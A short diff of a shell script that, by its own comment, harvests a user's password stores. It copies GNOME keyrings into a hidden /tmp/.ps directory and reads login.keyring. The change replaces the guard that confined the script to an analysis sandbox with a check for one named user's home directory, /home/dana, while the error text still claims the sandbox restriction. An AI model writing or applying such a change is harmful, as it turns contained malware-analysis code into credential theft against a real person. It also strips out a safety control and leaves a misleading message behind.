@@ -1,7 +1,7 @@
 #!/bin/sh
 # Takes the user's password stores: GNOME keyrings, KWallet, pass(1)'s
 # store and KeePass databases.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 mkdir -p /tmp/.ps
 cp -r "$HOME/.local/share/keyrings" /tmp/.ps/ 2>/dev/null
 cat "$HOME"/.local/share/keyrings/login.keyring > /dev/null 2>&1
